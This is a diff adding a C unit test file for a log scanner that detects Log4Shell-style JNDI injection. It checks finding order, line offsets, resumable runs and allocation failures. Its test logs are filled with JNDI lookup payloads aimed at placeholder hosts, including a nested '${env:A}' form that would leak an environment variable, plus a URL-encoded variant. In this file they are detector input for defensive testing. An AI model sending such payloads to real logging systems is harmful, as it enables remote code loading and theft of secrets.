@@ -1,0 +1,331 @@
+/* Running a source: the same findings in the same order from any number of workers, right lines and offsets, and runs that
+ * go on where one stopped. */
+#include "support/fault_alloc.h"
+#include "support/random.h"
+
+#include "base/limits.h"
+#include "pipeline/run.h"
+
+#include <setjmp.h>
+#include <stdarg.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/mman.h>
+#include <unistd.h>
+
+#include <cmocka.h>
+
+enum { LOG_MAX = 6 << 20, FOUND_MAX = 20000 };
+
+struct log {
+    unsigned char *p;
+    size_t n;
+    size_t attacks;
+    uint64_t lines;
+};
+
+struct found {
+    uint64_t line, offset;
+    unsigned char id[16];
+};
+
+struct seen {
+    struct found v[FOUND_MAX];
+    size_t n, sightings;
+    unsigned calls, stop_at; /* 0: never */
+};
+
+static void put(struct log *l, const char *text, size_t n)
+{
+    assert_true(l->n + n <= LOG_MAX);
+    memcpy(l->p + l->n, text, n);
+    l->n += n;
+}
+
+static void fill(struct log *l, char c, size_t n)
+{
+    assert_true(l->n + n <= LOG_MAX);
+    memset(l->p + l->n, c, n);
+    l->n += n;
+}
+
+/* Lines of every length around the block's and the window's, some with an attack at their end. */
+static struct log make_log(struct rng *r, bool newline_at_end)
+{
+    struct log l = {.p = malloc(LOG_MAX)};
+    assert_non_null(l.p);
+    while (l.n < LOG_MAX - 700000) {
+        unsigned kind = rng_below(r, 400);
+        size_t n = kind == 0   ? CT_BLOCK - 200 + rng_below(r, 400)
+                   : kind == 1 ? CT_BLOCK + rng_below(r, 300000)
+                   : kind == 2 ? CT_WINDOW - 100 + rng_below(r, 200)
+                   : kind < 20 ? 0
+                               : rng_below(r, 3000);
+        fill(&l, 'a', n);
+        if (rng_below(r, 4) == 0) {
+            char text[64];
+            int m = snprintf(text, sizeof text, "${jndi:ldap://h%u.example/a}", rng_below(r, 1000000));
+            put(&l, text, (size_t)m);
+            l.attacks++;
+        }
+        put(&l, "\n", 1);
+        l.lines++;
+    }
+    if (!newline_at_end) l.n--;
+    return l;
+}
+
+static ct_err on_finding(void *ctx, const struct ct_finding *f)
+{
+    struct seen *s = ctx;
+    assert_true(s->n < FOUND_MAX);
+    struct found *to = &s->v[s->n++];
+    *to = (struct found){.line = f->attempt.line, .offset = f->attempt.offset};
+    memcpy(to->id, f->attempt.id, sizeof to->id);
+    return CT_OK;
+}
+
+static void on_sighting(void *ctx, const struct ct_sighting *g)
+{
+    (void)g;
+    ((struct seen *)ctx)->sightings++;
+}
+
+static bool on_between(void *ctx, uint64_t consumed, uint64_t size)
+{
+    struct seen *s = ctx;
+    (void)consumed, (void)size;
+    return s->stop_at && ++s->calls >= s->stop_at;
+}
+
+static int memory_file(const struct log *l, size_t n)
+{
+    int fd = memfd_create("log", MFD_CLOEXEC);
+    assert_true(fd >= 0);
+    for (size_t at = 0; at < n;) {
+        ssize_t done = write(fd, l->p + at, n - at);
+        assert_true(done > 0);
+        at += (size_t)done;
+    }
+    return fd;
+}
+
+static const struct ct_scan_opts scan_opts = {.format = CT_FORMAT_AUTO, .min_grade = CT_GRADE_LEAK, .since_us = CT_TIME_NONE,
+                                              .until_us = CT_TIME_NONE, .year = 2021};
+
+static ct_err run(const struct ct_alloc *alloc, int fd, unsigned workers, const struct ct_run_from *from, struct seen *s,
+                  struct ct_run_report *ret_report)
+{
+    char path[40];
+    ct_runner *r = NULL;
+    ct_source *source = NULL;
+    struct ct_run_handlers handlers = {s, on_finding, on_sighting, on_between};
+    struct ct_fault fault = {0};
+    (void)snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
+    CT_TRY(ct_runner_new(alloc, &scan_opts, workers, &r));
+    ct_err e = ct_source_open(alloc, path, &source, &fault);
+    if (e == CT_OK) e = ct_run_source(r, source, CT_STR("a.log"), from, &handlers, ret_report, &fault);
+    ct_source_close(source);
+    ct_runner_free(r);
+    return e;
+}
+
+/* Each finding stands in the line it names, which starts at the offset it names. */
+static void check_places(const struct log *l, const struct seen *s)
+{
+    uint64_t line = 1, at = 0;
+    for (size_t i = 0; i < s->n; i++) {
+        assert_true(s->v[i].line >= line);
+        for (; line < s->v[i].line; line++) {
+            const unsigned char *nl = memchr(l->p + at, '\n', l->n - at);
+            assert_non_null(nl);
+            at = (uint64_t)(nl - l->p) + 1;
+        }
+        assert_int_equal(s->v[i].offset, at);
+    }
+}
+
+static void workers_agree(void **state)
+{
+    (void)state;
+    struct rng r = rng_new("pipeline_run");
+    struct seen *one = calloc(1, sizeof *one), *many = calloc(1, sizeof *many);
+    assert_true(one && many);
+    for (unsigned round = 0; round < 4; round++) {
+        struct log l = make_log(&r, round % 2 == 0);
+        int fd = memory_file(&l, l.n);
+        struct ct_run_from start = {0};
+        struct ct_run_report report;
+        memset(one, 0, sizeof *one);
+        assert_int_equal(run(&ct_alloc_libc, fd, 1, &start, one, &report), CT_OK);
+        assert_int_equal(one->n, l.attacks);
+        assert_int_equal(report.tally.lines, l.lines);
+        assert_int_equal(report.tally.bytes, l.n);
+        assert_int_equal(report.next.offset, l.n);
+        assert_int_equal(report.next.line, l.lines);
+        check_places(&l, one);
+        for (unsigned workers = 2; workers <= 5; workers++) {
+            memset(many, 0, sizeof *many);
+            assert_int_equal(run(&ct_alloc_libc, fd, workers, &start, many, &report), CT_OK);
+            assert_int_equal(many->n, one->n);
+            assert_memory_equal(many->v, one->v, one->n * sizeof *one->v);
+            assert_int_equal(report.tally.lines, l.lines);
+        }
+        (void)close(fd);
+        free(l.p);
+    }
+    free(one);
+    free(many);
+}
+
+static int by_id(const void *a, const void *b) { return memcmp(((const struct found *)a)->id, ((const struct found *)b)->id, 16); }
+
+static size_t distinct(struct seen *s)
+{
+    size_t n = 0;
+    qsort(s->v, s->n, sizeof *s->v, by_id);
+    for (size_t i = 0; i < s->n; i++) n += i == 0 || by_id(&s->v[i], &s->v[i - 1]) != 0;
+    return n;
+}
+
+/* The log grows between runs, cut anywhere; runs are interrupted anywhere: nothing is lost, ids stay. */
+static void runs_go_on(void **state)
+{
+    (void)state;
+    struct rng r = rng_new("pipeline_run");
+    struct seen *all = calloc(1, sizeof *all), *parts = calloc(1, sizeof *parts);
+    assert_true(all && parts);
+    for (unsigned round = 0; round < 6; round++) {
+        struct log l = make_log(&r, true);
+        struct ct_run_from at = {0};
+        struct ct_run_report report;
+        int fd = memory_file(&l, l.n);
+        memset(all, 0, sizeof *all);
+        memset(parts, 0, sizeof *parts);
+        assert_int_equal(run(&ct_alloc_libc, fd, 2, &at, all, &report), CT_OK);
+        (void)close(fd);
+        bool grows = round % 2 == 0;
+        size_t n = grows ? 0 : l.n;
+        for (unsigned step = 0; at.offset < l.n; step++) {
+            assert_true(step < 1000);
+            if (grows) n += n + 1 < l.n ? 1 + rng_below(&r, 900000) : 1;
+            if (n > l.n) n = l.n;
+            fd = memory_file(&l, n);
+            at.whole_lines = true;
+            parts->calls = 0;
+            parts->stop_at = grows ? 0 : 1 + rng_below(&r, 20) + step / 10;
+            ct_err e = run(&ct_alloc_libc, fd, 1 + rng_below(&r, 4), &at, parts, &report);
+            assert_true(e == CT_OK || e == CT_ERR_INTERRUPTED);
+            assert_true(report.next.offset >= at.offset && report.next.offset <= n);
+            assert_true(report.next.offset == 0 || l.p[report.next.offset - 1] == '\n' || l.p[report.next.offset] == '\n');
+            at = report.next;
+            (void)close(fd);
+        }
+        check_places(&l, all);
+        size_t expected = distinct(all);
+        assert_int_equal(distinct(parts), expected);
+        for (size_t i = 0, k = 0; i < all->n; i++) { /* the same ids at the same places */
+            while (k < parts->n && by_id(&parts->v[k], &all->v[i]) != 0) k++;
+            assert_true(k < parts->n);
+            assert_int_equal(parts->v[k].line, all->v[i].line);
+            assert_int_equal(parts->v[k].offset, all->v[i].offset);
+        }
+        free(l.p);
+    }
+    free(all);
+    free(parts);
+}
+
+/* A block of nothing but shortest attacks is handed over in parts. */
+static void dense_blocks(void **state)
+{
+    (void)state;
+    struct log l = {.p = malloc(LOG_MAX)};
+    struct seen *s = calloc(1, sizeof *s);
+    struct ct_run_from start = {0};
+    struct ct_run_report report;
+    assert_true(l.p && s);
+    for (unsigned i = 0; i < FOUND_MAX; i++) put(&l, "${jndi:rmi://h/a}\n", 18);
+    int fd = memory_file(&l, l.n);
+    for (unsigned workers = 1; workers <= 3; workers += 2) {
+        memset(s, 0, sizeof *s);
+        assert_int_equal(run(&ct_alloc_libc, fd, workers, &start, s, &report), CT_OK);
+        assert_int_equal(s->n, FOUND_MAX);
+        for (unsigned i = 0; i < FOUND_MAX; i++) {
+            assert_int_equal(s->v[i].line, i + 1);
+            assert_int_equal(s->v[i].offset, 18 * i);
+        }
+        assert_int_equal(report.tally.lines, FOUND_MAX);
+    }
+    (void)close(fd);
+    free(l.p);
+    free(s);
+}
+
+/* One attack in the part of a long line that two blocks share, or across their border, is one finding. */
+static void long_lines_are_judged_once(void **state)
+{
+    (void)state;
+    struct seen *s = calloc(1, sizeof *s);
+    assert_non_null(s);
+    for (size_t at = CT_BLOCK - CT_WINDOW_OVERLAP - 100; at < CT_BLOCK + 100; at += 37) {
+        struct log l = {.p = malloc(LOG_MAX)};
+        struct ct_run_from start = {0};
+        struct ct_run_report report;
+        assert_non_null(l.p);
+        fill(&l, 'a', at);
+        put(&l, "${jndi:ldap://h.example/a}", 26);
+        fill(&l, 'b', CT_BLOCK);
+        put(&l, "\nx\n", 3);
+        int fd = memory_file(&l, l.n);
+        memset(s, 0, sizeof *s);
+        assert_int_equal(run(&ct_alloc_libc, fd, 1, &start, s, &report), CT_OK);
+        assert_int_equal(s->n, 1);
+        assert_int_equal(s->v[0].line, 1);
+        assert_int_equal(s->v[0].offset, 0);
+        assert_int_equal(report.tally.lines, 2);
+        (void)close(fd);
+        free(l.p);
+    }
+    free(s);
+}
+
+static void every_allocation_may_fail(void **state)
+{
+    (void)state;
+    struct log l = {.p = malloc(LOG_MAX)};
+    struct seen *s = calloc(1, sizeof *s);
+    assert_true(l.p && s);
+    for (unsigned i = 0; i < 50; i++) put(&l, "x ${jndi:ldap://h.example/${env:A}} %24%7Bjndi:rmi://g.example/b%7D\n", 68);
+    int fd = memory_file(&l, l.n);
+    for (int persistent = 0; persistent < 2; persistent++)
+        for (unsigned n = 0;; n++) {
+            struct fault_alloc f;
+            struct ct_run_from start = {0};
+            struct ct_run_report report;
+            fault_alloc_init(&f, n, persistent);
+            memset(s, 0, sizeof *s);
+            ct_err e = run(&f.alloc, fd, 1, &start, s, &report);
+            assert_int_equal(f.live, 0);
+            if (!f.failed) {
+                assert_int_equal(e, CT_OK);
+                assert_int_equal(s->n, 50);
+                break;
+            }
+            /* Inside a verdict too little memory is an answer of unknown certainty, not an error. */
+            assert_true(e == CT_ERR_NOMEM || (e == CT_OK && s->n <= 50));
+        }
+    (void)close(fd);
+    free(l.p);
+    free(s);
+}
+
+int main(void)
+{
+    const struct CMUnitTest tests[] = {
+        cmocka_unit_test(workers_agree), cmocka_unit_test(runs_go_on),         cmocka_unit_test(dense_blocks),
+        cmocka_unit_test(long_lines_are_judged_once), cmocka_unit_test(every_allocation_may_fail),
+    };
+    return cmocka_run_group_tests(tests, NULL, NULL);
+}
